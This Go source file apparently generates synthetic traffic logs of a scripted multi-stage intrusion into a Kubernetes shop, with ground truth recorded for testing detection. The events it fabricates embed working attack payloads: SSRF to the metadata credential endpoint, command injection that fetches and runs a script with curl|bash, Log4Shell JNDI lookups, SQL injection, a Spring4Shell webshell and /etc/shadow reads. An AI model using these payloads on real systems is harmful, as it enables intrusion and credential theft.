package intrusion

import (
	"fmt"
	"net/netip"
	"slices"
	"sort"
	"strconv"
	"time"
)

// Stages are the parts of the intrusion, in the order in which they begin.
var Stages = []string{"recon", "brute-force", "ssrf-metadata", "token-use", "k8s-secrets", "pivot-1", "pivot-2", "pivot-3", "bulk-read", "exfiltration"}

// intruder follows a script. It looks at the world, as where pods are, and changes nothing in it.
type intruder struct {
	maker
	world  *world
	script []scene
	done   int

	attacker, sink netip.Addr
	a, b, c, d     *pod
	lured          *pod
	token          string // stolen
}

// scene is one exchange to come.
type scene struct {
	at    int64
	stage string
	play  func(x *hop)
}

const curl = "curl/8.5.0"

func newIntruder(o Options, w *world) *intruder {
	r := &intruder{
		maker: newMaker(o, 0x696e7472), world: w,
		attacker: netip.AddrFrom4([4]byte{192, 0, 2, 66}), sink: netip.AddrFrom4([4]byte{192, 0, 2, 201}),
		token: w.byName["jenkins"].token,
	}
	one := func(name string) *pod { return pick(&r.maker, w.byName[name].pods...) }
	r.a, r.b, r.c, r.d, r.lured = one("reviews"), one("search"), one("orders"), one("billing"), one("media")

	r.recon(12, 16.5)
	r.bruteForce(17, 21)
	r.metadata(22)
	r.tokenUse(25, 26)
	r.secrets(27, 29)
	r.pivots(31, 36, 41)
	r.bulkRead(43, 49.5)
	r.exfiltrate(50, 55)

	// Minutes are of the last hour, or of what there is.
	length := min(w.end, int64(time.Hour))
	for i := range r.script {
		s := &r.script[i]
		s.at = w.end - length + int64(float64(s.at)*float64(length)/float64(time.Hour))
	}
	sort.SliceStable(r.script, func(i, j int) bool { return r.script[i].at < r.script[j].at })
	return r
}

func (r *intruder) next() (Event, bool) {
	if r.done == len(r.script) {
		return Event{}, false
	}
	s := &r.script[r.done]
	r.done++
	r.clear()
	x := hop{stage: s.stage, at: s.at, took: int64(r.about(6, 0.5) * float64(time.Millisecond)), method: "GET"}
	s.play(&x)
	return r.event(&x), true
}

func (r *intruder) truth() Truth {
	t := Truth{Attacker: r.attacker, A: r.a.addr, B: r.b.addr, C: r.c.addr, D: r.d.addr, Lured: r.lured.addr, Sink: r.sink}
	for _, name := range Stages {
		stage := Stage{Name: name}
		for i := range r.script {
			if s := &r.script[i]; s.stage == name {
				at := r.start.Add(time.Duration(s.at).Truncate(time.Millisecond))
				if stage.Records++; stage.Records == 1 {
					stage.First = at
				}
				stage.Last = at
			}
		}
		t.Stages = append(t.Stages, stage)
	}
	return t
}

// at adds a scene, at a minute of the hour.
func (r *intruder) at(stage string, minute float64, play func(x *hop)) {
	r.script = append(r.script, scene{int64(minute * float64(time.Minute)), stage, play})
}

// spread adds n scenes between two minutes, at no regular times.
func (r *intruder) spread(stage string, first, last float64, n int, play func(x *hop, i int)) {
	for i := range n {
		r.at(stage, first+(last-first)*(float64(i)+0.9*r.Float64())/float64(n), func(x *hop) { play(x, i) })
	}
}

// send is what the scenes have in common: who asks whom for what, and what comes back.
func (r *intruder) send(x *hop, from, to *pod, uri, agent string, status int, answer string) {
	x.client = netip.AddrPortFrom(from.addr, r.port(from.addr, to.addr, x.at))
	port := uint16(443)
	if to.of != nil {
		port, x.serverName = to.of.port, to.of.server
	}
	x.server = netip.AddrPortFrom(to.addr, port)
	x.probe = from.node.addr
	if x.host == "" {
		x.host = x.server.String()
		if to.of != nil && agent != curl {
			x.host = to.of.host
		}
	}
	x.agent, x.status = agent, status
	r.uri = append(r.uri, uri...)
	if status != 0 {
		r.answer = append(r.answer, answer...)
		if x.kind == "" && answer != "" {
			x.kind = "application/json"
		}
	}
	r.headers = slices.Insert(r.headers, 0, header{"Accept", "*/*"})
}

func (r *intruder) body(x *hop, text string) {
	x.method, x.askKind = "POST", "application/json"
	r.ask = append(r.ask, text...)
}

// recon: A asks every service that it finds for what may be there.
func (r *intruder) recon(first, last float64) {
	paths := []string{"/", "/admin", "/actuator/env", "/.env", "/swagger.json", "/v2/api-docs", "/debug/vars", "/server-status", "/console/", "/api/v1/users", "/.git/config", "/internal/config", "/login", "/graphql"}
	var targets []*fleet
	for _, f := range r.world.fleets {
		if !f.outside {
			targets = append(targets, f, f) // two pods of each
		}
	}
	const each = 12
	r.spread("recon", first, last, len(targets)*each, func(x *hop, i int) {
		n := i / each
		// The pods of now, as there may have been a rollout.
		f := targets[n]
		to, status, answer := f.pods[n%len(f.pods)], 404, `{"error":"not_found"}`
		switch k := r.IntN(20); {
		case k < 3:
			status, answer = 403, `{"error":"forbidden"}`
		case k < 5:
			status, answer = 401, `{"error":"unauthorized"}`
		case k < 6:
			status, answer = 200, done
		case k < 8: // nobody listens, or speaks something else
			status = 0
		}
		r.send(x, r.a, to, paths[(i%each+n)%len(paths)], curl, status, answer)
		if status == 0 {
			x.server = netip.AddrPortFrom(to.addr, pick(&r.maker, uint16(80), 8443, 9000, 5432))
			x.host = x.server.String()
		}
	})
}

// bruteForce: A tries passwords of a few accounts, and finds one.
func (r *intruder) bruteForce(first, last float64) {
	names := []string{"admin", "svc-deploy", "svc-reports"}
	const n = 420
	r.spread("brute-force", first, last, n, func(x *hop, i int) {
		to := r.world.byName["auth"]
		password := of(passwords, r.Uint64()) + strconv.Itoa(r.between(1, 2026)) + pick(&r.maker, "", "", "!", "#")
		r.body(x, fmt.Sprintf(`{"username":"%s","password":"%s"}`, names[i%len(names)], password))
		status, answer := 401, `{"error":"invalid_credentials"}`
		if i == n-1 {
			status, answer = 200, `{"token":"`+bearer(names[i%len(names)], 1, r.start)[len("Bearer "):]+`","expires":3600}`
		}
		r.send(x, r.a, to.pods[r.IntN(len(to.pods))], "/auth/login", requests, status, answer)
	})
}

const role = "shop-node-role"

// metadata: from outside, media is made to fetch a "picture" from the cloud's metadata server.
func (r *intruder) metadata(minute float64) {
	w := r.world
	const target = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
	for i, path := range []string{"", role} {
		m := minute + 0.7*float64(i)
		answer := role
		if i == 1 {
			answer = `{"Code":"Success","Type":"AWS-HMAC","AccessKeyId":"ASIAEXAMPLE0SHOP0001","SecretAccessKey":"example/secret/of/nobody/0000000000000001","Token":"example-token","Expiration":"2026-03-02T18:00:00Z"}`
		}
		gateway := w.byName["gateway"]
		outside := &pod{addr: r.attacker, node: &w.nodes[0]}
		entry := gateway.pods[i%len(gateway.pods)]
		r.at("ssrf-metadata", m, func(x *hop) {
			x.host, x.kind, x.took = publicHost, "text/plain", int64(19*time.Millisecond)
			r.send(x, outside, entry, "/media/fetch?url="+target+path, curl, 200, answer)
		})
		r.at("ssrf-metadata", m+0.0001, func(x *hop) {
			x.host, x.kind, x.took, x.forward = r.lured.of.host, "text/plain", int64(12*time.Millisecond), r.attacker.String()
			r.add("X-Forwarded-For", x.forward)
			r.send(x, entry, r.lured, "/media/fetch?url="+target+path, gateway.agent, 200, answer)
		})
		r.at("ssrf-metadata", m+0.0002, func(x *hop) {
			x.kind, x.host = "text/plain", "169.254.169.254"
			r.send(x, r.lured, w.byName["metadata"].pods[0], "/latest/meta-data/iam/security-credentials/"+path, goClient, 200, answer)
		})
	}
}

// tokenUse: A speaks to Kubernetes, which it never did, with the token of jenkins.
func (r *intruder) tokenUse(first, last float64) {
	paths := []string{"/version", "/api", "/apis", "/api/v1/namespaces", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", "/api/v1/namespaces/shop/pods", "/api/v1/namespaces/shop/serviceaccounts", "/api/v1/nodes"}
	r.spread("token-use", first, last, len(paths), func(x *hop, i int) {
		if i == 4 {
			r.body(x, `{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"shop"}}`)
		}
		r.unseen = r.between(200, 40_000)
		r.kubernetes(x, paths[i], 200, `{"kind":"List","apiVersion":"v1","metadata":{"resourceVersion":"481516"},"items":[{"metadata":{"name":"default","namespace":"shop"}}]}`)
	})
}

func (r *intruder) kubernetes(x *hop, uri string, status int, answer string) {
	r.add("Authorization", r.token)
	to := r.world.byName["kube-apiserver"]
	x.host = to.host
	for len(r.answer)+len(answer) < nanoBody && r.unseen > 0 {
		answer += " "
	}
	r.send(x, r.a, to.pods[r.IntN(len(to.pods))], uri, curl, status, answer)
}

// secrets: A lists the secrets of all namespaces, and reads some.
func (r *intruder) secrets(first, last float64) {
	spaces := []string{"shop", "kube-system", "jenkins", "monitoring", "argocd", "vault"}
	names := []string{"orders-database", "payments-psp", "users-database", "registry-pull", "jenkins-deploy", "grafana-admin", "billing-mail"}
	secret := func(space, name string) string {
		return fmt.Sprintf(`{"kind":"Secret","apiVersion":"v1","metadata":{"name":"%s","namespace":"%s"},"data":{"username":"c3ZjX3Nob3A=","password":"%x"},"type":"Opaque"}`, name, space, mix(uint64(len(name))))
	}
	r.spread("k8s-secrets", first, last, 1+len(spaces)+4*len(names), func(x *hop, i int) {
		switch {
		case i == 0:
			r.kubernetes(x, "/api/v1/secrets?limit=500", 403, `{"kind":"Status","apiVersion":"v1","status":"Failure","reason":"Forbidden","code":403}`)
		case i <= len(spaces):
			r.unseen = r.between(4_000, 60_000)
			r.kubernetes(x, "/api/v1/namespaces/"+spaces[i-1]+"/secrets", 200, `{"kind":"SecretList","apiVersion":"v1","items":[`+secret(spaces[i-1], names[i%len(names)])+`]}`)
		default:
			space, name := spaces[i%4], names[i%len(names)]
			r.kubernetes(x, "/api/v1/namespaces/"+space+"/secrets/"+name, 200, secret(space, name))
		}
	})
}

// pivots: A attacks B, which attacks C some minutes later, which attacks D.
func (r *intruder) pivots(first, second, third float64) {
	attack := func(stage string, minute float64, tries ...func(x *hop)) {
		for i, try := range tries {
			r.at(stage, minute+0.25*float64(i), try)
		}
	}
	to := func(from, to *pod, uri, agent string, status int, answer string) func(x *hop) {
		return func(x *hop) { r.send(x, from, to, uri, agent, status, answer) }
	}
	attack("pivot-1", first,
		to(r.a, r.b, "/query?q=shoes%3Bid", curl, 500, `{"error":"internal","retry":true}`),
		to(r.a, r.b, "/query?q=%3Bcat+/etc/passwd", curl, 200, "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"),
		to(r.a, r.b, "/query?q=%24%28curl+-s+http://"+r.a.addr.String()+":8000/s.sh%7Cbash%29", curl, 200, `{"hits":[]}`),
	)
	lookup := "${jndi:ldap://" + r.b.addr.String() + ":1389/a}"
	attack("pivot-2", second,
		to(r.b, r.c, "/orders?customer="+"%24%7Bjndi%3Aldap%3A%2F%2F"+r.b.addr.String()+"%3A1389%2Fa%7D", curl, 400, `{"error":"bad_request"}`),
		to(r.b, r.c, "/orders/1", lookup, 404, `{"error":"not_found"}`),
		func(x *hop) {
			r.add("X-Api-Version", lookup)
			r.send(x, r.b, r.c, "/orders?customer=100001&page=1", curl, 200, `{"orders":[],"page":1}`)
		},
	)
	attack("pivot-3", third,
		func(x *hop) {
			r.body(x, `{"order":"1","customer":"1' UNION SELECT usename,passwd FROM pg_shadow-- -"}`)
			r.send(x, r.c, r.d, "/invoices", curl, 500, `{"error":"internal","retry":true}`)
		},
		func(x *hop) {
			r.body(x, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp")
			x.askKind = "application/x-www-form-urlencoded"
			r.send(x, r.c, r.d, "/accounts/1", curl, 200, done)
		},
		to(r.c, r.d, "/tomcatwar.jsp?pwd=j&cmd=cat+/etc/shadow", curl, 200, done),
	)
}

// bulkRead: D, which asks users for one customer now and then, walks through their numbers and has all of
// each.
func (r *intruder) bulkRead(first, last float64) {
	users := r.world.byName["users"]
	r.spread("bulk-read", first, last, 3200, func(x *hop, i int) {
		user := uint64(firstCustomer + i)
		f := &flow{user: user}
		if mix(user)%100 == 0 {
			x.host = users.host
			r.send(x, r.d, users.pods[r.IntN(len(users.pods))], "/users/"+strconv.FormatUint(user, 10)+"?expand=all", apache, 404, `{"error":"not_found"}`)
			return
		}
		r.answer, _ = wholeCustomer.render(&r.maker, f, r.answer)
		r.answer = append(appendCard(r.answer, user), `","expires":"11/27"}],"orders":[`...)
		r.answer, _ = history.render(&r.maker, f, r.answer)
		r.answer = append(r.answer, "]}"...)
		r.unseen = int(r.about(9_000, 0.3))
		x.host = users.host
		r.send(x, r.d, users.pods[r.IntN(len(users.pods))], "/users/"+strconv.FormatUint(user, 10)+"?expand=all", apache, 200, "")
		x.kind = "application/json"
	})
}

var (
	wholeCustomer = compile(customer[:len(customer)-1] + `,"cards":[{"number":"`)
	history       = compile(`{8-8 export}`)
)

// appendCard writes a card number that has a right check digit, of the range that is used in tests.
func appendCard(b []byte, user uint64) []byte {
	digits, sum := append([]byte("411111"), fmt.Sprintf("%09d", mix(user)%1_000_000_000)...), 0
	for i, c := range digits {
		d := int(c - '0')
		if i%2 == 0 { // the check digit is the sixteenth
			if d *= 2; d > 9 {
				d -= 9
			}
		}
		sum += d
	}
	return append(append(b, digits...), byte('0'+(10-sum%10)%10))
}

// exfiltrate: D uploads what it has, to where nobody went before.
func (r *intruder) exfiltrate(first, last float64) {
	outside := &pod{addr: r.sink, node: r.d.node}
	r.spread("exfiltration", first, last, 36, func(x *hop, i int) {
		x.host, x.took = "files.backup.example", int64(r.about(900, 0.3)*float64(time.Millisecond))
		r.body(x, `{"data":"`) // as JSON, which no rule of CRS minds
		for len(r.ask) < nanoBody {
			n := r.Uint64()
			for range 8 {
				r.ask = append(r.ask, base64Letters[n&63])
				n >>= 8
			}
		}
		r.askUnseen = r.between(3_000_000, 9_000_000)
		r.send(x, r.d, outside, fmt.Sprintf("/up/d4/part-%03d", i), curl, 201, `{"stored":true}`)
	})
}

const base64Letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
